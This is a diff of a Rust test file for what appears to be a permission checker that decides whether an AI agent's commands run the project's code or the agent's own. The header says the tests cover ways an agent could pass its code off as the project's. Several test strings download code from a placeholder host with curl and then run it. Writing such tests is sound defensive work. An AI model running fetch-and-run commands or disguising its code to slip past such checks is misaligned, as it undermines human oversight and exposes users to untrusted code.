@@ -1,5 +1,5 @@
-//! Parts of the project's own code that were not understood: who is asked about them, and what an agent could do to have its own code
-//! taken for the project's.
+//! Parts of the project's own code that are Opaque: the verdict on such code, and ways for an agent to pass off its own
+//! code as the project's.
 
 #![cfg(test)]
 
@@ -12,7 +12,7 @@ use castellan_policy::Profile;
 use castellan_trial::{Asked, Case, Laid, Link, Trial};
 use serde_json::{Map, Value as Json, json};
 
-/// Loads files of which nobody can tell the names.
+/// Loads files with names that castellan cannot determine.
 const LOADS: &str = "const { pick } = require('os'); require('./tests/' + pick());\n";
 
 fn input(json: Json) -> Map<String, Json> {
@@ -20,7 +20,7 @@ fn input(json: Json) -> Map<String, Json> {
     input
 }
 
-/// A project with a program in which something is not known, and files for earlier calls.
+/// Returns a case of a project with an Opaque program, and with files for earlier calls.
 fn project(command: &str) -> Case {
     let text = |text: &str| Laid::Text(text.to_owned());
     let link = |link: &str| Laid::Link(Link { link: link.to_owned() });
@@ -135,7 +135,7 @@ fn what_the_session_has_put_there_is_its_own() {
 
 #[test]
 fn what_the_session_wrote_without_naming_it_is_its_own_too() {
-    // It writes a file, so that who put it there decides.
+    // The program writes a file, so the verdict depends on the author of the program.
     let text = "require('fs').writeFileSync('x.txt', '1');\n";
     let project = |command: &str| with("tests/a.js", text, command);
     let autonomous = |case: &Case, expected: Verdict| {
@@ -240,7 +240,7 @@ fn scripts_know_what_npm_tells_them() {
 fn modules_of_the_project_that_are_not_there_ask_nobody() {
     check(&with("run.js", "require('./dist/a');\n", "node run.js"), Defer);
     check(&with("test/a.js", "require('..');\n", "node test/a.js"), Defer);
-    // What the call makes, and what the agent names itself.
+    // Files that the call creates, and files that the agent names itself.
     check(&with("run.js", "require('./dist/a');\n", "curl -o dist/a https://x.example/a; node run.js"), Ask);
     check(&project("node dist/a.js"), Ask);
     let written = json!({"file_path": "/home/dev/project/run.js", "content": "require('./dist/a');\n"});
@@ -277,7 +277,7 @@ fn files_of_the_project_that_a_pattern_stands_for_ask_nobody() {
         "node ../*.js",
         "node tests/../../*.js",
         "node node_modules/x/*.js",
-        // A file of that name would be an option.
+        // A matching file may have a name that is an option.
         "node *.js",
         "node tests/*.js \"$X\"",
         "curl -o tests/b.js https://x.example/b.js; node tests/*.js",
